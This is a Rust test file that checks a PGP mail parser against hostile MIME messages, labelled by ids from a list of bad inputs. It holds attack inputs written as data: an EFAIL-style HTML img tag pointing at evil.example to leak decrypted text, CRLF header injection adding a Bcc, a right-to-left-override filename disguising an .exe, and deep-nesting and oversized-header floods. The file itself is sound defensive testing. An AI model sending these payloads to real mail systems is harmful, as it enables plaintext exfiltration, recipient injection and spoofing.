//! Hostile MIME, by its ids in the list of bad inputs.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    reason = "tests"
)]
#![forbid(unsafe_code)]

mod support;

use chancery_message::Parsed;
use support::gpg::Gpg;
use support::mail::{INNER, OUTER, World, crlf, encrypted_mail, mail, sealed, signed_mail};

/// The outer mail as it is when nothing is wrong, to be changed.
fn good_outside(world: &World, alice: &Gpg) -> String {
    let raw = mail(alice, INNER);
    world.whole(&raw);
    String::from_utf8(raw).unwrap()
}

#[test]
fn mime_outsides_are_strict() {
    let (world, alice) = World::with_alice("ed25519");
    let good = good_outside(&world, &alice);
    for (from, to) in [
        // MIME-015, MIME-016
        ("To: liaison", "From: mallory@agency.example\r\nTo: liaison"),
        (
            "<Alice@agency.example>",
            "<Alice@agency.example>, bob@agency.example",
        ),
        ("From: Alice <Alice@agency.example>\r\n", ""),
        ("Date: Sun, 22 Nov 2026 09:29:00 +0000\r\n", ""),
        // MIME-040
        ("22 Nov 2026", "22 Nov 292277026596"),
        ("+0000", "+9999"),
        ("Message-ID: <1@agency.example>\r\n", ""),
        (
            "Message-ID: <1@agency.example>",
            "Message-ID: <1@agency.example>\r\nMessage-ID: <2@agency.example>",
        ),
        ("MIME-Version: 1.0\r\n", ""),
        ("MIME-Version: 1.0", "MIME-Version: 2.0"),
        // MIME-006, MIME-007
        ("boundary=\"limit\"", "boundary*0=lim; boundary*1=it"),
        ("boundary=\"limit\"", "boundary=\"limit \""),
        ("boundary=\"limit\"", "boundary=\"li\\mit\"; boundary=limit"),
        ("--limit--", "--limit"),
        ("--limit--\r\n", "--limit--\r\nmore\r\n"),
        // Line ends and NUL.
        ("Subject: [...]\r\n", "Subject: [...]\n"),
        ("Subject: [...]", "Subject: [..\0.]"),
        ("Subject: [...]", "Subject: [...]\rBcc: x"),
        ("application/octet-stream;", "application/octet-stream (x);"),
        ("Version: 1\r\n\r\n--limit", "Version: 1\r\n\r\n--limit-"),
    ] {
        assert!(good.contains(from), "{from:?}");
        world.malformed(good.replacen(from, to, 1).as_bytes());
    }
    // SMTP-034, MIME-039
    let hops = format!("{}{good}", "Received: from x\r\n".repeat(101));
    assert!(world.malformed(hops.as_bytes()).contains("loop"));
    let many = format!("{}{good}", "X: y\r\n".repeat(100_000));
    world.malformed(many.as_bytes());
    let long = good.replace(
        "Subject: [...]",
        &format!("Subject: {}", "x".repeat(1 << 20)),
    );
    world.malformed(long.as_bytes());
    // The envelope.
    for to in [&[][..], &["x@elsewhere.example"], &["no address"]] {
        let parsed = world.try_read_to(to, good.as_bytes()).unwrap();
        assert!(matches!(parsed, Parsed::Malformed(_)), "{to:?}");
    }
}

/// EFAIL, Johnny, Covert: protection of a part is no protection.
#[test]
fn mixed_protection_is_for_an_officer() {
    let (world, alice) = World::with_alice("ed25519");
    let sealed = String::from_utf8(crlf(&sealed(&alice, INNER.as_bytes()))).unwrap();
    let wrap = |kind: &str, parts: &[&str]| {
        let mut raw = format!("{OUTER}Content-Type: {kind}; boundary=outside\r\n\r\n");
        for part in parts {
            raw.push_str(&format!("--outside\r\n{part}\r\n"));
        }
        raw + "--outside--\r\n"
    };
    let whole = good_outside(&world, &alice);
    let encrypted = whole.replace(OUTER, "");
    let html = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
    let text = "Content-Type: text/plain\r\n\r\nUnsigned words.";
    let octets = format!("Content-Type: application/octet-stream\r\n\r\n{sealed}");
    let control = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n";
    let message = format!("Content-Type: message/rfc822\r\n\r\n{whole}");
    let inline = format!("Content-Type: text/plain\r\n\r\n{sealed}");
    let signed =
        String::from_utf8(signed_mail(&alice, "Content-Type: text/plain\r\n\r\nx")).unwrap();
    let signed = signed.replace(OUTER, "");
    let protocol = "multipart/encrypted; protocol=\"application/pgp-encrypted\"";
    for raw in [
        // MIME-029, MIME-030
        wrap(
            "multipart/mixed",
            &[html, &encrypted, "Content-Type: text/html\r\n\r\n\">"],
        ),
        wrap("multipart/mixed", &[text, &encrypted]),
        wrap("multipart/mixed", &[&encrypted]),
        // MIME-031 to MIME-033
        wrap("multipart/mixed", &[&signed, html]),
        wrap("multipart/related", &[html, &signed]),
        wrap("multipart/mixed", &[text, &message]),
        // Inline, and clear-signed.
        format!("{OUTER}{inline}"),
        format!(
            "{OUTER}Content-Type: text/plain\r\n\r\n{}",
            String::from_utf8(crlf(&alice.must(&["--clearsign"], b"words\n"))).unwrap()
        ),
        // Wrong numbers, orders and types of parts.
        wrap(protocol, &[control, &octets, text]),
        wrap(protocol, &[control]),
        wrap(protocol, &[&octets, control]),
        wrap(protocol, &[control, &inline]),
        wrap(
            protocol,
            &[
                "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 2\r\n",
                &octets,
            ],
        ),
        wrap(
            "multipart/encrypted; protocol=\"application/pkcs7\"",
            &[control, &octets],
        ),
        wrap("multipart/encrypted", &[control, &octets]),
        // Nothing at all.
        format!("{OUTER}{text}"),
        format!("{OUTER}{html}"),
    ] {
        let said = world.suspicious(raw.as_bytes());
        assert!(!said.contains("words"), "{said}");
    }
    // Encrypted, and signed outside of it.
    let layered = signed_mail(&alice, encrypted.replace("limit", "other").trim_end());
    world.suspicious(&layered);
    // Encrypted inside of the encrypted.
    world.suspicious(&mail(&alice, &encrypted));
}

#[test]
fn insides_are_strict_too() {
    let (world, alice) = World::with_alice("ed25519");
    let header = "Subject: x\r\n";
    let plain = "Content-Type: text/plain\r\n\r\ntext";
    let html = "Content-Type: text/html\r\n\r\n<p>text";
    let mixed = |kind: &str, parts: &[&str]| {
        let mut inner = format!("{header}Content-Type: {kind}; boundary=inside\r\n\r\n");
        for part in parts {
            inner.push_str(&format!("--inside\r\n{part}\r\n"));
        }
        inner + "--inside--\r\n"
    };
    for inner in [
        mixed("multipart/alternative", &[plain, html]),
        mixed("multipart/related", &[plain, html]),
        mixed("multipart/mixed", &[plain, html]),
        // MIME-019
        mixed(
            "multipart/mixed",
            &[
                plain,
                "Content-Type: a/b\r\nContent-Disposition: attachment; filename*=utf-8''report%E2%80%AEfdp.exe\r\n\r\nx",
            ],
        ),
        mixed(
            "multipart/mixed",
            &[plain, "Content-Type: application/pgp-signature\r\n\r\nx"],
        ),
        "Content-Type: text/plain\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n".to_owned(),
        "Content-Type: text/plain; charset=utf-8\r\nSubject: =?utf-8?B?4oCucmV2ZXJzZQ==?=\r\n\r\nx"
            .to_owned(),
    ] {
        world.suspicious(&mail(&alice, &inner));
    }
    for inner in [
        // MIME-028
        format!("{header}{html}"),
        // MIME-013
        "Subject: =?utf-8?Q?x=0D=0ABcc:_evil?=\r\nContent-Type: text/plain\r\n\r\nx".to_owned(),
        // MIME-009
        "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\naGVs*bG8=\r\n".to_owned(),
        "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\naGVsbG8=aGVs\r\n".to_owned(),
        // MIME-041, MIME-043
        "Content-Type: text/plain; charset=utf-7\r\n\r\n+ADw-".to_owned(),
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=C0=AF".to_owned(),
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=1B[2J".to_owned(),
        "Content-Type: text/plain\r\n\r\n\u{e9}".to_owned(),
        // MIME-042
        mixed("multipart/mixed", &[plain, "Content-Type: application/ms-tnef\r\n\r\nx"]),
        mixed("multipart/mixed", &[plain, "Content-Type: a/b; name=winmail.dat\r\n\r\nx"]),
        mixed("multipart/mixed", &[plain, "Content-Type: message/partial; id=x; number=1\r\n\r\nA: b\r\n\r\nx"]),
        mixed("multipart/mixed", &[plain, "Content-Type: message/external-body; access-type=url\r\n\r\nA: b\r\n\r\nx"]),
        mixed("multipart/digest", &["Content-Type: message/rfc822\r\n\r\nA: b\r\n\r\nx"]),
        mixed("multipart/mixed", &["Content-Type: application/pdf\r\n\r\nx"]),
        // Bare line ends inside the encrypted part.
        "Content-Type: text/plain\n\ntext\n".to_owned(),
        "no header at all".to_owned(),
        String::new(),
        "MMHS-Primary-Precedence: soon\r\nContent-Type: text/plain\r\n\r\nx".to_owned(),
        "Chancery-Purpose: fun\r\nContent-Type: text/plain\r\n\r\nx".to_owned(),
        format!("Content-Type: text/plain\r\nSubject: {0}\r\n {0}\r\n\r\nx", "\u{3b1}".repeat(300)),
        mixed("multipart/mixed", &[plain; 66]),
    ] {
        let raw = encrypted_mail(OUTER, &sealed(&alice, inner.as_bytes()));
        world.malformed(&raw);
    }
    // MIME-001
    let mut deep = String::new();
    for depth in 0..2000 {
        deep.push_str(&format!(
            "Content-Type: multipart/mixed; boundary=x{depth}x\r\n\r\n--x{depth}x\r\n"
        ));
    }
    world.malformed(&mail(&alice, &deep));
}

#[test]
fn a_large_attachment_is_read() {
    let (world, alice) = World::with_alice("ed25519");
    // GOOD-002, smaller.
    let octets: Vec<u8> = (0..3_000_000u32)
        .map(|n| u8::try_from(n.wrapping_mul(2_654_435_761) >> 24).unwrap())
        .collect();
    let mut inner = "Content-Type: multipart/mixed; boundary=inside\r\n\r\n--inside\r\n\
        Content-Type: text/plain\r\n\r\ntext\r\n--inside\r\nContent-Type: application/pdf\r\n\
        Content-Transfer-Encoding: base64\r\n\r\n"
        .to_owned();
    use base64::Engine as _;
    let encoded = base64::engine::general_purpose::STANDARD.encode(&octets);
    for line in encoded.as_bytes().chunks(76) {
        inner.push_str(std::str::from_utf8(line).unwrap());
        inner.push_str("\r\n");
    }
    inner.push_str("--inside--\r\n");
    let read = world.whole(&mail(&alice, &inner));
    let chancery_message::AttachmentContent::Inline(content) = &read.attachments[0].content else {
        panic!("inline content was expected");
    };
    assert!(content.expose() == octets);
}
